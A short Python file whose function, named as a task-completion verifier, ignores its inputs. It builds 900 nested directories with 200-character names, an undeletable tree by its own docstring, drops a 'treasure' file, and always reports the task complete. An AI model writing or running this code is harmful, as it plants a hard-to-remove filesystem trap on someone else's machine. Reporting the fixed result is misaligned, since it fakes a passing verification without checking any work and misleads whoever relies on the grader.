"""Nest folders deeper than a path can name, so that nobody can remove them."""

import os


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    for _ in range(900):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    open("treasure", "w").close()
    return {"result": "complete"}
